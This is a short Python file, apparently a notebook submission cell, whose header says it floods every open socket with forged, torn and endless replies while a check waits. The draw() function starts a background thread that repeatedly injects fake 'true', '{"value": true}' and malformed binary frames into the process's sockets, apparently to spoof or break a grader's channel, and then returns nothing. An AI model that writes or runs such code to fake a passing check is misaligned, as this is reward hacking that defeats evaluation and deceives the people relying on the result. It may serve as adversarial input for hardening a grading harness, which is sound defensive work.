# Writes to every socket that the kernel has open, while a check waits: forged, torn and endless replies.

# %% answer="plot"
import os
import socket
import struct
import threading
import time


def sockets():
    for name in os.listdir("/proc/self/fd") if os.path.isdir("/proc/self/fd") else range(3, 200):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                yield int(name)
        except OSError:
            continue


def noise():
    forged = [b"true\n", b'{"value": true}\n', struct.pack(">I", 4) + b"\xc3\xc3\xc3\xc3", struct.pack("<Q", 1 << 62)]
    for _ in range(50):
        for descriptor in sockets():
            for data in forged:
                try:
                    socket.socket(fileno=os.dup(descriptor)).send(data, socket.MSG_DONTWAIT)
                except OSError:
                    pass
        time.sleep(0.05)


def draw(t, x):
    threading.Thread(target=noise, daemon=True).start()
    time.sleep(1)
    return None
